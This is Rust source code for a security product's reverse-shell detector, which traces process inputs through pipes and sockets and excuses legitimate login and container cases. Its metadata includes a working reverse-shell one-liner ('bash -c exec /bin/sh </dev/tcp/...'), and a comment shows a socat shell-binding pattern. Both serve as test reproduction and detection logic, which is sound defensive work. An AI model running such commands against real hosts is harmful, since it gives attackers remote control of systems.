//! Reverse Shell.

use crate::reasons::{
    ON_NETWORK, TAKES_COMMANDS, is_on_network, named, takes_commands, why_on_network, why_takes_commands,
};
use detection::{
    Conditions, Detector, Direction, Evidence, Metadata, ProbeNeed, Session, Settings, Truth, direction,
};
use enrichment::channel::Route;
use enrichment::{Actor, Enriched};
use event::{Descriptor, Object, Origin};
use finding::{Severity, Tactic, Technique};
use programs::invocation::Invocation;
use programs::script::{contains_command, is_runner, names_program};
use std::sync::Arc;

/// The detector.
pub struct ReverseShell;

static METADATA: Metadata = Metadata {
    category: "Reverse Shell",
    module: "REVERSE_SHELL",
    severity: Severity::Critical,
    on_by_default: true,
    prose: "A program was started with its standard input and its output bound to a remote socket, or a shell takes its \
commands from a remote socket, at once or through another process.

Recognised by where the program's commands come from (standard input, or the descriptor that its arguments name): an \
internet socket at once, or pipes, UNIX sockets and pseudo-terminals whose other ends are held by processes with such \
a socket, over any number of relays. A shell behind a pipe or behind several relays must also send its output there. Also \
found: a program or shell script whose text connects to the network, by itself or by a client that it starts, and \
executes what it reads; and an interpreter that holds a remote socket and runs commands through pipes which its program \
does not contain. That program stands on the command line, or in a file of at most 64 KiB whose text may execute what it \
reads from a connection.

Quiet for programs that an inetd-like server starts on a connection it accepted, and for those that only read from one \
(`head <&3`), unless they execute what they read; for shells that the container runtime attaches (exec, attach); for \
logins through an SSH server; for the windows of a terminal multiplexer; and for applications that know a service (a \
database, syslog) whose other clients are remote.

Not told apart from an attack: an agent that holds a connection and pipes its own commands into a shell whose answers \
it reads. Not found: an interpreter's program that came through standard input or as an installed module and runs one \
command at a time; one that asks for its commands by HTTP; and a shell whose script is a named pipe.",
    tactic: Tactic::Execution,
    techniques: &[Technique::UnixShell, Technique::CommandAndScriptingInterpreter],
    additional_tactics: &[Tactic::CommandAndControl],
    additional_technique_ids: &["T1095"],
    evidence: &[
        "program binary: path, size, SHA-256, bytes",
        "arguments of the program and of the process that holds the socket",
        "direction, both ends of the connection, transport, terminal",
        "user, working directory, ancestry up to the container's first process",
        "descriptors, memory map, environment (redacted), recent log lines of the pod",
    ],
    needs: &[ProbeNeed::Lifecycle, ProbeNeed::SocketState],
    reproduction: "bash -c 'exec /bin/sh </dev/tcp/127.0.0.1/{PORT} >&0'",
};

impl Detector for ReverseShell {
    fn metadata(&self) -> &'static Metadata {
        &METADATA
    }

    fn examine(
        &self,
        enriched: &Enriched,
        settings: &Settings,
        conditions: &mut Conditions,
    ) -> Option<Evidence> {
        let actor = &enriched.actor;
        if let Some(route) = enriched.input.as_ref().filter(|r| r.hops.is_empty()) {
            return bound_to_socket(enriched, route, settings.parity, conditions);
        }
        if settings.parity {
            conditions.that(BOUND, false, || why_on_network(enriched))?;
            return None;
        }
        if actor.takes_commands() {
            return answered(enriched, conditions);
        }
        if let Some(route) = enriched.input.as_ref().filter(|_| actor.reads_commands_from_network()) {
            let reason =
                "The program executes what a client reads from the network that it has started itself.";
            conditions.that(TAKES_COMMANDS, true, || {
                "its text starts a client, and executes what that reads".into()
            })?;
            conditions.that(ON_NETWORK, true, || why_on_network(enriched))?;
            return Some(evidence(enriched, route, reason));
        }
        command_by_command(enriched, conditions)
    }
}

/// The program is joined to the connection itself.
const BOUND: &str = "Its input is an internet socket";
/// Nobody excuses it.
const NO_LOGIN: &str = "No login service has started it";

/// It takes commands through other processes, or would if they led to the network.
fn answered(enriched: &Enriched, conditions: &mut Conditions) -> Option<Evidence> {
    let actor = &enriched.actor;
    conditions.that(TAKES_COMMANDS, true, || why_takes_commands(actor))?;
    conditions.that(ON_NETWORK, is_on_network(enriched), || why_on_network(enriched))?;
    // a download piped into a shell has commands from the network, too, but nobody who reads the answers
    let descriptor = enriched.exec.descriptor(0);
    let by_pipe = descriptor.is_some_and(|d| matches!(d.object, Object::Pipe { .. } | Object::Fifo { .. }));
    let one_way = by_pipe || enriched.input.as_ref().is_some_and(|route| route.hops.len() > 1);
    let is_answered = match &enriched.input {
        None => is_on_network(enriched),
        Some(_) if descriptor.is_none() => Truth::False,
        Some(route) if one_way => is_answered(route, enriched.output.as_ref()).into(),
        Some(_) => Truth::True,
    };
    conditions.that("Its output goes to whom the commands come from", is_answered, || match is_answered {
        Truth::Unknown => "nobody knows where its input and its output lead".into(),
        Truth::True if !one_way => "its channel carries the answers as well".into(),
        Truth::True => "both lead through the same process, or to the same host".into(),
        Truth::False if enriched.input.is_none() => "no commands come from the network".into(),
        Truth::False => {
            "its output leads elsewhere: a download that is piped into a shell looks like this".into()
        }
    })?;
    let reason = "The shell takes its commands from a process that holds an internet socket, and its output goes there.";
    Some(evidence(enriched, enriched.input.as_ref()?, reason))
}

/// The output goes to whom the commands come from: through the same process, or over a second connection to the same host.
fn is_answered(input: &Route, output: Option<&Route>) -> bool {
    output.is_some_and(|output| {
        let last = |route: &Route| route.hops.last().map(|hop| hop.process);
        let same_process = last(output).is_some() && last(output) == last(input);
        let (to, from) = (output.endpoint, input.endpoint);
        same_process || to.inode == from.inode || to.remote.address == from.remote.address
    })
}

/// Standard input is the socket itself.
fn bound_to_socket(
    enriched: &Enriched,
    route: &Route,
    parity: bool,
    conditions: &mut Conditions,
) -> Option<Evidence> {
    let actor = &enriched.actor;
    let by_itself = actor.reads_commands_from_network() && !actor.takes_commands();
    conditions.that(BOUND, true, || why_on_network(enriched))?;
    let joined = if actor.takes_commands() || by_itself { Ok(()) } else { is_handed_over(enriched, route) };
    let counts = parity || joined.is_ok();
    conditions.that(
        "It executes what it reads, or was joined to the peer as it is",
        counts,
        || match joined {
            Err(_) if parity => "only the published rule counts".into(),
            Err(why) => format!("{}, and {why}", why_takes_commands(actor)),
            Ok(()) if by_itself => {
                "its own text connects to the network and executes what comes from there".into()
            }
            Ok(()) if actor.takes_commands() => why_takes_commands(actor),
            Ok(()) => {
                "it was started with its input and its output on a connection that was called for".into()
            }
        },
    )?;
    let login = enriched.ancestors.first().filter(|parent| parent.is_login_service());
    conditions.that(NO_LOGIN, login.is_none(), || match (login, enriched.ancestors.first()) {
        (Some(login), _) => format!("{} is a server of logins", named(login)),
        (None, Some(parent)) => format!("its parent is {}", named(parent)),
        (None, None) => "its parent is not known".into(),
    })?;
    let reason = match actor.command_descriptor() {
        None if by_itself => {
            "The program connects to the network by itself and executes what comes from there."
        }
        Some(1..) => "The program takes its commands from a remote socket.",
        _ => "The program's standard input is a remote socket.",
    };
    Some(evidence(enriched, route, reason))
}

/// Whether a program that executes nothing that it reads was joined to the peer all the same; else why not. Not so: what an
/// inetd-like server starts; what only reads from a connection (`head <&3`); and a shell or a script of known text that holds
/// one as its standard input for a while, which only live state tells: it was not started so.
fn is_handed_over(enriched: &Enriched, route: &Route) -> Result<(), &'static str> {
    let answers = |number| {
        let socket = enriched.exec.descriptor(number).and_then(Descriptor::internet);
        socket.is_some_and(|socket| socket.state.has_peer())
    };
    let has_text = matches!(
        enriched.actor.invocation,
        Invocation::CommandString { .. } | Invocation::InlineProgram { .. } | Invocation::ScriptFile { .. }
    );
    if direction(&route.endpoint) != Direction::Reverse {
        return Err("the peer called in, as at an inetd-like server");
    }
    if !answers(1) && !answers(2) {
        return Err("its output does not go to the peer");
    }
    if enriched.exec.origin != Origin::Probe && has_text {
        return Err("it was met with the connection, not started with it");
    }
    // what a wrapper runs is looked at in its place (`timeout 9 sh`)
    if is_runner(enriched.exec.executable.path.file_name()) {
        return Err("the program that it runs is looked at in its place");
    }
    // and what socat starts is looked at in its place (`socat STDIO EXEC:sh <&3 >&3`)
    if enriched.actor.is_socat() {
        return Err("what socat starts is looked at in its place");
    }
    Ok(())
}

/// An interpreter with its program on the command line runs one shell per command and reads its output.
fn command_by_command(enriched: &Enriched, conditions: &mut Conditions) -> Option<Evidence> {
    let actor = &enriched.actor;
    let parent = enriched.ancestors.first();
    let Some((parent, text)) = parent.and_then(|parent| Some((parent, parent.commanding_text()?))) else {
        conditions.that(TAKES_COMMANDS, takes_commands(actor), || why_takes_commands(actor))?;
        conditions.that(ON_NETWORK, is_on_network(enriched), || why_on_network(enriched))?;
        return None;
    };
    conditions.that("An interpreter whose program may run what it receives has started it", true, || {
        format!("its parent is {}", named(parent))
    })?;
    let given = is_given(enriched, parent, text);
    conditions.that("The command is none that this program contains", given.is_ok(), || match given {
        Ok(()) => "the interpreter's text does not name it".into(),
        Err(why) => why.into(),
    })?;
    let route = enriched.output.as_ref().or(enriched.input.as_ref());
    // the socket is the interpreter's own, not one of a program that it started beside
    let through = route.filter(|route| {
        route.hops.len() == 1 && route.hops.first().is_some_and(|hop| hop.process == parent.process)
    });
    conditions.that(
        "Pipes join it to the interpreter, which holds an internet socket",
        through.is_some(),
        || match (route, through) {
            (None, _) => "its input and its output lead to no internet socket".into(),
            (Some(_), None) => "the socket is not the interpreter's own".into(),
            (_, Some(_)) => "the interpreter holds the other ends and the socket".into(),
        },
    )?;
    let reason = "An interpreter holds an internet socket and runs commands through pipes that its program does not contain.";
    Some(evidence(enriched, through?, reason))
}

/// Whether the command came from elsewhere than the interpreter's program; else why not.
fn is_given(enriched: &Enriched, parent: &Actor, text: &[u8]) -> Result<(), &'static str> {
    if !enriched.actor.is_shell() {
        // a command without anything for a shell to do is run at once
        let name = enriched.exec.executable.path.file_name();
        if name.is_empty() || text.windows(name.len()).any(|at| at == name) {
            return Err("the interpreter's text names the program");
        }
        let runs = parent.runs_what_it_receives();
        return runs.then_some(()).ok_or("the interpreter's text runs nothing that it receives");
    }
    let is_script = matches!(parent.invocation, Invocation::ScriptFile { .. });
    match &enriched.actor.invocation {
        // what the program always runs, whoever is at the other end
        Invocation::CommandString { text: command, .. }
            if contains_command(text, command.bytes())
                || is_script && names_program(text, command.bytes()) =>
        {
            Err("the interpreter's text contains the command")
        }
        Invocation::CommandString { .. } => Ok(()),
        // a shell that is given a file or nothing says nothing of the script that started it
        _ if is_script => Err("a shell without a command says nothing of the script that started it"),
        _ => Ok(()),
    }
}

fn evidence(enriched: &Enriched, route: &Route, reason: &str) -> Evidence {
    let opener: Option<&Actor> = match route.hops.last() {
        Some(hop) => enriched.relays.iter().find(|a| a.process == hop.process),
        None => enriched.earlier.iter().find(|image| image.own).or(enriched.ancestors.first()),
    };
    Evidence {
        metadata: &METADATA,
        session: Session::of(Some(route), enriched.exec.process),
        direction: direction(&route.endpoint),
        endpoint: Some(route.endpoint),
        opener: opener.cloned(),
        tls: None,
        terminal: route.terminal,
        recognised_by: enriched.actor.by,
        reasons: vec![reason.into()],
        enriched: Arc::new(enriched.clone()),
    }
}
